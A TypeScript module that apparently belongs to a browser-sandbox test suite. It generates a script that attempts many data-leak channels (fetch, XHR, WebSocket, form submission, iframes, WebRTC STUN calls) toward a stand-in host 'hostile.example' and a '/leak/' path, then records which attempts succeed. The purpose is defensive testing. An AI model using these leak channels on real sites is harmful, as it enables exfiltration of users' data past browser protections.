import { attemptGroups } from "./attempts";

/** Milliseconds after which an attempt counts as one of which nothing came. */
const PATIENCE = 8_000;

/** Where hostile code would send what it has found. */
export interface Targets {
  /** The site's own origin. */
  origin: string;
  /** A UDP port of this machine, as a STUN server would have it. */
  port: number;
  /** A TCP port of this machine, where names of hosts are taken to lead; absent: the usual one. */
  awayPort?: number;
}

/** What became of each attempt, by group and name. */
export type Outcomes = Record<string, Record<string, string>>;

/**
 * The source of an expression: a function that makes every attempt and resolves to the outcomes. What
 * it takes from the platform it takes when it is evaluated, before a world puts its own in place.
 */
export function attackSource({ origin, port, awayPort }: Targets): string {
  const groups = attemptGroups.map(({ tries, attempts }) => {
    const members = Object.entries(attempts).map(
      ([name, { script }]) => `${JSON.stringify(name)}: async () => { ${script} }`,
    );
    return `${JSON.stringify(tries)}: { ${members.join(",\n")} }`;
  });
  return `(() => {
    const origin = ${JSON.stringify(origin)};
    const port = ${port};
    const away = ${JSON.stringify(awayPort === undefined ? "" : `:${awayPort}`)};
    const patience = ${PATIENCE};
    ${HELPERS}
    const groups = { ${groups.join(",\n")} };
    ${RUN}
  })()`;
}

/** What the attempts use. */
const HELPERS = String.raw`
  const nativeFetch = window.fetch;
  const nativeCredentials = navigator.credentials;
  const later = window.setTimeout.bind(window);
  const out = (name) => "https://" + name + ".hostile.example" + away + "/";
  const socket = (name) => "wss://" + name + ".hostile.example" + away + "/";
  const own = (name) => origin + "/leak/" + name;
  const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
  const make = (tag, attributes) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    return element;
  };
  const loads = (tag, attributes) => new Promise((resolve) => {
    const element = make(tag, attributes);
    element.addEventListener("load", () => resolve("loaded"));
    element.addEventListener("loadeddata", () => resolve("loaded"));
    element.addEventListener("error", () => resolve("failed"));
    (["link", "script"].includes(tag) ? document.head : document.body).append(element);
  });
  const opens = (connection) => new Promise((resolve) => {
    connection.onopen = connection.onmessage = () => resolve("opened");
    connection.onerror = (event) => { event.preventDefault?.(); resolve("failed"); };
    if (connection.port) connection.port.onmessage = () => resolve("opened");
  });
  const request = (url) => new Promise((resolve) => {
    const xhr = new XMLHttpRequest();
    xhr.onload = () => resolve("loaded");
    xhr.onerror = () => resolve("failed");
    xhr.open("GET", url);
    xhr.send();
  });
  const link = (attributes) => {
    const element = make("a", attributes);
    document.body.append(element);
    return element;
  };
  // Not by a click that a page's script could prevent: links of a page belong to the simulated browser.
  const click = (element) => {
    element.addEventListener("click", (event) => event.stopPropagation());
    element.click();
    element.remove();
    return "clicked";
  };
  const sends = (attributes) => {
    const form = make("form", attributes);
    form.addEventListener("submit", (event) => event.stopPropagation());
    document.body.append(form);
    form.requestSubmit();
    form.remove();
    return "sent";
  };
  const frame = (attributes = {}) => {
    const element = make("iframe", attributes);
    document.body.append(element);
    return element;
  };
  const say = (value) => "parent.postMessage('hostile:' + " + value + ", '*');";
  const says = (text) => "<script>" + say("'" + text + "'") + "</" + "script>";
  const frameSays = (attributes) => new Promise((resolve) => {
    const element = frame(attributes);
    addEventListener("message", ({ source, data }) => {
      if (source === element.contentWindow) resolve(String(data).replace("hostile:", ""));
    });
  });
  // A document in which nothing has been taken away: it says so, and calls.
  const fresh = () => "<script>" + say("'runs'") + "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:"
    + port + "' }] }); peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</" + "script>";
  const nested = (text) => "<iframe srcdoc=\"" + text.replaceAll("&", "&amp;").replaceAll('"', "&quot;") + "\"></iframe>";
  const markup = (set) => {
    const place = document.createElement("div");
    document.body.append(place);
    return new Promise((resolve) => {
      addEventListener("message", ({ data }) => { if (data === "hostile:runs") resolve("runs"); });
      set(place);
    });
  };
  const calls = async (Peer) => {
    const peer = new Peer({ iceServers: [{ urls: "stun:127.0.0.1:" + port }] });
    peer.createDataChannel("a");
    await peer.setLocalDescription(await peer.createOffer());
    return "called";
  };
`;

const RUN = String.raw`
  const outcome = async (run) => {
    try {
      const nothing = new Promise((resolve) => later(resolve, patience, "nothing happened"));
      return String(await Promise.race([run(), nothing]));
    } catch (error) {
      return error.name + ": " + error.message;
    }
  };
  return async () => Object.fromEntries(await Promise.all(
    Object.entries(groups).map(async ([group, attempts]) => [
      group,
      Object.fromEntries(await Promise.all(
        Object.entries(attempts).map(async ([name, run]) => [name, await outcome(run)]),
      )),
    ]),
  ));
`;
